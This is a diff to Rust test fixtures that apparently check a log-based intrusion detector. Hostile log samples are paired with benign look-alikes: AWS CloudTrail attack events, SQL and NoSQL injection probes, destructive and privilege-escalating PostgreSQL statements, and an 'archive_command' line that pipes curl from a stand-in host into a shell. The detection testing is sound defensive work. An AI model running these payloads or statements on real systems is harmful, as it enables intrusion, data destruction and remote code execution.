@@ -312,6 +312,66 @@ pub const CASES: &[(&str, &str, &str)] = &[
         "2026-11-24 01:02:03 UTC [5] LOG:  statement: DROP TRIGGER audit_trg ON trades",
         "2026-11-24 01:02:03 UTC [5] LOG:  statement: DROP INDEX old_idx",
     ),
+    (
+        "aws-credentials-harvested",
+        r#"{"eventSource":"ssm.amazonaws.com","eventName":"GetParametersByPath","requestParameters":{"path":"/","withDecryption":true}}"#,
+        r#"{"eventSource":"ssm.amazonaws.com","eventName":"GetParametersByPath","requestParameters":{"path":"/app","withDecryption":true}}"#,
+    ),
+    (
+        "aws-identity-changed",
+        r#"{"eventSource":"rolesanywhere.amazonaws.com","eventName":"CreateTrustAnchor","requestParameters":{}}"#,
+        r#"{"eventSource":"rolesanywhere.amazonaws.com","eventName":"ListCreateTrustAnchor","requestParameters":{}}"#,
+    ),
+    (
+        "aws-compute-taken",
+        r#"{"eventSource":"ec2.amazonaws.com","eventName":"ModifyInstanceAttribute","requestParameters":{"userData":"x"}}"#,
+        r#"{"eventSource":"ec2.amazonaws.com","eventName":"ModifyInstanceAttribute","requestParameters":{"ebsOptimized":true}}"#,
+    ),
+    (
+        "aws-function-changed",
+        r#"{"eventSource":"lambda.amazonaws.com","eventName":"CreateFunctionUrlConfig","requestParameters":{"authType":"NONE"}}"#,
+        r#"{"eventSource":"lambda.amazonaws.com","eventName":"CreateFunctionUrlConfig","requestParameters":{"authType":"AWS_IAM"}}"#,
+    ),
+    (
+        "aws-bucket-opened",
+        r#"{"eventSource":"s3.amazonaws.com","eventName":"PutBucketVersioning","requestParameters":{"VersioningConfiguration":{"Status":"Suspended"}}}"#,
+        r#"{"eventSource":"s3.amazonaws.com","eventName":"PutBucketVersioning","requestParameters":{"VersioningConfiguration":{"Status":"Enabled"}}}"#,
+    ),
+    (
+        "aws-objects-destroyed",
+        r#"{"eventSource":"s3.amazonaws.com","eventName":"PutObject","requestParameters":{"key":"HOW_TO_RESTORE.txt"}}"#,
+        r#"{"eventSource":"s3.amazonaws.com","eventName":"PutObject","requestParameters":{"key":"restored.txt"}}"#,
+    ),
+    (
+        "aws-database-changed",
+        r#"{"eventSource":"rds.amazonaws.com","eventName":"ModifyDBInstance","requestParameters":{"publiclyAccessible":true}}"#,
+        r#"{"eventSource":"rds.amazonaws.com","eventName":"ModifyDBInstance","requestParameters":{"publiclyAccessible":false}}"#,
+    ),
+    (
+        "aws-backups-destroyed",
+        r#"{"eventSource":"backup.amazonaws.com","eventName":"DeleteBackupVault","requestParameters":{}}"#,
+        r#"{"eventSource":"backup.amazonaws.com","eventName":"ListDeleteBackupVault","requestParameters":{}}"#,
+    ),
+    (
+        "aws-resource-shared",
+        r#"{"eventSource":"kms.amazonaws.com","eventName":"CreateGrant","requestParameters":{"granteePrincipal":"arn:aws:iam::123456789012:root"}}"#,
+        r#"{"eventSource":"kms.amazonaws.com","eventName":"CreateGrant","requestParameters":{"granteePrincipal":"arn:aws:iam::123456789012:role/r"}}"#,
+    ),
+    (
+        "aws-network-changed",
+        r#"{"eventSource":"ec2.amazonaws.com","eventName":"CreateTrafficMirrorSession","requestParameters":{}}"#,
+        r#"{"eventSource":"ec2.amazonaws.com","eventName":"ListCreateTrafficMirrorSession","requestParameters":{}}"#,
+    ),
+    (
+        "aws-service-abused",
+        r#"{"eventSource":"account.amazonaws.com","eventName":"EnableRegion","requestParameters":{}}"#,
+        r#"{"eventSource":"account.amazonaws.com","eventName":"ListEnableRegion","requestParameters":{}}"#,
+    ),
+    (
+        "aws-discovery",
+        r#"{"eventSource":"iam.amazonaws.com","eventName":"CreateUser","errorCode":"AccessDenied"}"#,
+        r#"{"eventSource":"iam.amazonaws.com","eventName":"GetUser","errorCode":"AccessDenied"}"#,
+    ),
 ];
 
 /// Rules on requests: the file's name, requests that it must find, answered with success, and some that it must not.
@@ -607,6 +667,17 @@ pub const REQUESTS: &[(&str, &[&str], &[&str])] = &[
         &["/x?q=%3Cmarquee%20onstart%3Dx%3E", "/x?q=%3Csvg/onbegin=x", "/x?q=%22%20onclick=x"],
         &["/api/alerts/alert(1)", "/docs/prompt(ing)", "/api/javascript:void(0)", "/blog/onload=whatever"],
     ),
+    ("sql-injection-probe", &["/x?id=1'", "/x?a=b&id=7');"], &["/x?size=5'6", "/docs/5'", "/search?q=don't"]),
+    (
+        "web-enumeration",
+        &["/graphql?query={__schema{types{name}}}", "/graphql?query=query%20IntrospectionQuery%20%7Bx%7D"],
+        &["/graphql?query={trades{id}}", "/docs/schema"],
+    ),
+    (
+        "object-injection-probe",
+        &["/x?password%5B%24gt%5D=", "/x?a[$gte]=&b=1"],
+        &["/x?price[$gt]=5", "/x?price%5B%24gt%5D=0"],
+    ),
     (
         "sql-injection-probe",
         &["/x?id=1-sleep(5)", "/x?id=benchmark(500000,md5(1))", "/x?id=sleep%2815%29"],
@@ -795,7 +866,6 @@ pub const STATEMENTS: &[(&str, &[&str], &[&str])] = &[
             "statement: begin; create role evil login; commit",
             "statement: create role evil\n\tlogin",
             "statement: GRANT pg_read_all_data TO evil",
-            "statement: CREATE EXTENSION IF NOT EXISTS dblink",
             "AUDIT: SESSION,2,1,DDL,CREATE FUNCTION,FUNCTION,public.f,\"CREATE FUNCTION f() RETURNS void\",<none>",
             "AUDIT: SESSION,3,1,DDL,CREATE EVENT,,,\"create event trigger e on ddl_command_end execute function x()\",<none>",
             "statement: ALTER USER app WITH NOINHERIT SUPERUSER",
@@ -884,6 +954,10 @@ pub const STATEMENTS: &[(&str, &[&str], &[&str])] = &[
             "statement: UPDATE trades SET price = 0",
             "statement: DELETE FROM trades WHERE created_at > '2026-01-01'",
             "statement: DELETE FROM \"AuditLog\" WHERE \"userId\" = 5",
+            "statement: MERGE INTO \"Trade\" t USING (SELECT 1) x ON true WHEN MATCHED THEN DELETE",
+            "statement: UPDATE trades SET user_id = 5 WHERE 1=1",
+            "statement: DELETE FROM trades WHERE id = 1 OR true",
+            "statement: DELETE FROM \"public\".\"Trade\" WHERE (1=1)",
         ],
         &[
             "statement: DELETE FROM trades WHERE id = 5",
@@ -895,6 +969,10 @@ pub const STATEMENTS: &[(&str, &[&str], &[&str])] = &[
             "statement: DELETE FROM job_locks",
             "statement: UPDATE trades SET price = $1 WHERE id = $2",
             "statement: UPDATE orders SET status = 'new'",
+            "statement: MERGE INTO positions p USING f ON p.id = f.id WHEN MATCHED THEN UPDATE SET qty = 1",
+            "statement: MERGE INTO staging s USING x ON s.id = x.id WHEN NOT MATCHED BY SOURCE THEN DELETE",
+            "statement: DELETE FROM trades WHERE id = 1 AND closed OR id = 2",
+            "statement: UPDATE trades SET user_id = 5 WHERE id = 7 AND 1=1",
             "statement: DROP DATABASE IF EXISTS \"prisma_migrate_shadow_db_1\"",
         ],
     ),
@@ -931,11 +1009,14 @@ pub const STATEMENTS: &[(&str, &[&str], &[&str])] = &[
             "statement: SELECT * FROM users WHERE name = '' OR '1'='1' -- ' AND password = ''",
             "execute <unnamed>: SELECT * FROM p WHERE id = 1 AND 5=CAST((CHR(113)||CHR(106)) AS NUMERIC)",
             "unterminated quoted string at or near \"' ORDER BY 1\"",
+            "statement: SELECT * FROM p WHERE id = 1 AND 1=CAST((SELECT version()) AS int)",
         ],
         &[
             "statement: SELECT pg_sleep(0.1)",
             "statement: SELECT * FROM p WHERE name = 'a' OR name = 'b' ORDER BY 1",
             "statement: SELECT * FROM generate_series(1, 1000000)",
+            "statement: INSERT INTO t (v) VALUES (CAST($1::text AS int))",
+            "statement: SELECT id FROM t WHERE n = CAST((SELECT max(n) FROM u) AS text)",
         ],
     ),
     (
@@ -946,6 +1027,8 @@ pub const STATEMENTS: &[(&str, &[&str], &[&str])] = &[
             "statement: create rule r as on insert to users do also insert into s values (new.*)",
             "statement: CREATE SUBSCRIPTION s CONNECTION 'host=192.0.2.7' PUBLICATION p",
             "statement: ALTER SYSTEM SET archive_command = 'curl http://192.0.2.7|sh'",
+            "statement: CREATE EXTENSION IF NOT EXISTS dblink",
+            "statement: CREATE USER MAPPING FOR app SERVER other OPTIONS (user 'x')",
             "AUDIT: SESSION,9,1,DDL,CREATE EXTENSION,,,\"CREATE EXTENSION plpython3u\",<not logged>",
             "statement: create function x() returns void as $$ $$ language plperlu",
         ],
@@ -1002,6 +1085,9 @@ pub const STATEMENTS: &[(&str, &[&str], &[&str])] = &[
             "parameter \"archive_command\" changed to \"/bin/true\"",
             "parameter \"log_connections\" changed to \"off\"",
             "statement: ALTER SYSTEM SET archive_mode = off",
+            "statement: UPDATE \"User\" SET role = 'ADMIN' WHERE id = 7",
+            "statement: update users set name = 'x', is_admin = true where id = 7",
+            "statement: DROP FUNCTION audit_trade() CASCADE",
         ],
         &[
             "statement: SELECT pg_terminate_backend(4711)",
@@ -1015,6 +1101,9 @@ pub const STATEMENTS: &[(&str, &[&str], &[&str])] = &[
             "parameter \"log_statement\" changed to \"ddl\"",
             "parameter \"work_mem\" changed to \"64MB\"",
             "statement: ALTER SYSTEM SET archive_mode = on",
+            "statement: UPDATE users SET role = $1 WHERE id = $2",
+            "statement: UPDATE users SET role = 'viewer' WHERE id = 7",
+            "statement: DROP FUNCTION set_updated_at() CASCADE",
         ],
     ),
     (
@@ -1061,6 +1150,27 @@ fn at(second: u32, rest: &str) -> String {
 
 fn sshd(second: u32, message: &str) -> String {
     format!("Nov 24 01:{:02}:{:02} web sshd[77]: {message} port 5 ssh2\n", second / 60, second % 60)
+}
+
+/// What the console says of log-ins, one a second.
+fn console(count: u32, said: &str) -> String {
+    let one = |n: u32| {
+        at(
+            n,
+            &format!(
+                "\"eventName\":\"ConsoleLogin\",\"eventSource\":\"signin.amazonaws.com\",\"sourceIPAddress\":\"1.2.3.4\",\
+                 \"responseElements\":{{\"ConsoleLogin\":\"{said}\"}}"
+            ),
+        )
+    };
+    (0..count).map(one).collect()
+}
+
+/// A call of AWS by a program.
+fn called_by(agent: &str) -> String {
+    let call =
+        "\"eventName\":\"ListUsers\",\"eventSource\":\"iam.amazonaws.com\",\"userIdentity\":{\"accessKeyId\":\"A\"}";
+    at(0, &format!("{call},\"userAgent\":\"{agent}\""))
 }
 
 /// Correlations: a file, events that it must find, events that it must not.
@@ -1118,6 +1228,8 @@ pub fn correlated() -> Vec<(&'static str, String, String)> {
         ("web-login-guessing", web_refused(10), web_refused(9)),
         ("web-enumeration", web_keys(15), web_keys(14)),
         ("secrets-swept", secret(10), secret(9)),
+        ("console-login-guessing", console(10, "Failure"), console(10, "Success")),
+        ("aws-attack-tool", called_by("stratus-red-team_1"), called_by("aws-cli/2")),
         ("mass-export", export(20), export(19)),
         ("database-password-guessing", guessed(10), guessed(9)),
     ]
